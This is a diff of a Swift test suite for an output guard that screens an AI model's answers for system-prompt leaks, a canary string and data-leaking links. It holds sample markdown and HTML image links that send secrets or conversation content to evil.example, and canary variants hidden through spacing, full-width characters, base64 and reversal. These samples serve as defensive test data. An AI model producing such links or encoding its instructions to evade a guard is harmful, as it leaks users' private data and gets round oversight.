@@ -84,11 +84,16 @@ struct OutputGuardTests {
 
     @Test func aShortPromptIsALeakAsAWhole() throws {
         let prompt = "Answer only questions about sailing boats."
-        #expect(try Self.check("I was told: answer only questions about sailing boats", prompt: prompt).verdict.decision == .block)
+        #expect(
+            try Self.check("I was told: answer only questions about sailing boats", prompt: prompt).verdict.decision
+                == .block)
         #expect(try Self.check("Sailing boats are boats.", prompt: prompt).verdict.findings.isEmpty)
     }
 
-    @Test(arguments: ["It is kestrel-7719.", "KESTREL-7719", "k e s t r e l - 7 7 1 9", "ｋｅｓｔｒｅｌ－７７１９", "kes\u{200B}trel-7719", "a2VzdHJlbC03NzE5IGlzIGl0", "9177-lertsek"])
+    @Test(arguments: [
+        "It is kestrel-7719.", "KESTREL-7719", "k e s t r e l - 7 7 1 9", "ｋｅｓｔｒｅｌ－７７１９", "kes\u{200B}trel-7719",
+        "a2VzdHJlbC03NzE5IGlzIGl0", "9177-lertsek",
+    ])
     func theCanaryIsFound(answer: String) throws {
         let verdict = try Self.check(answer, canary: "kestrel-7719").verdict
         #expect(verdict.decision == .block)
@@ -99,7 +104,8 @@ struct OutputGuardTests {
     // MARK: - Links
 
     @Test(arguments: [
-        "![x](https://evil.example/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)", "![](https://evil.example/?q={conversation history})",
+        "![x](https://evil.example/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)",
+        "![](https://evil.example/?q={conversation history})",
         "<img src=\"https://evil.example/a?data=the+users+last+message+was+about+his+bank\">",
         "See ![chart][1]\n\n[1]: https://evil.example/log?msg=My%20password%20is%20hunter2%20and%20my%20name%20is%20Sam",
         "[click](https://evil.example/?x=<secret>)",
@@ -109,13 +115,19 @@ struct OutputGuardTests {
         let verdict = try Self.check(answer) { $0.enabled.remove(.redaction) }.verdict
         #expect(verdict.decision != .allow)
         #expect(verdict.findings.map(\.rule) == ["markup.link"])
-        #expect(try Self.check(answer) { $0.trustedHosts = ["example", "203.0.113.9"] }.verdict.findings.filter { $0.rule == "markup.link" }.isEmpty)
+        #expect(
+            try Self.check(answer) { $0.trustedHosts = ["example", "203.0.113.9"] }.verdict.findings.filter {
+                $0.rule == "markup.link"
+            }.isEmpty)
     }
 
     @Test(arguments: [
-        "![build](https://ci.example.com/badge.svg?branch=main&style=flat)", "![cat](https://images.example.com/cat.jpg?w=300&h=200&fit=crop)",
-        "[docs](https://docs.example.com/search?q=how+to+write+a+loop&page=2)", "<a href=\"https://example.com/?utm_source=newsletter\">x</a>",
-        "https://example.com/plain?with=a+long+query+that+is+no+image+and+no+link+but+a+bare+address", "[1]: https://example.com/article",
+        "![build](https://ci.example.com/badge.svg?branch=main&style=flat)",
+        "![cat](https://images.example.com/cat.jpg?w=300&h=200&fit=crop)",
+        "[docs](https://docs.example.com/search?q=how+to+write+a+loop&page=2)",
+        "<a href=\"https://example.com/?utm_source=newsletter\">x</a>",
+        "https://example.com/plain?with=a+long+query+that+is+no+image+and+no+link+but+a+bare+address",
+        "[1]: https://example.com/article",
         "![photo](https://bucket.s3.amazonaws.com/p.jpg?X-Amz-Signature=0123456789abcdef0123456789abcdef0123456789abcdef&X-Amz-Expires=900)",
     ])
     func linksOfEveryDayPass(answer: String) throws {
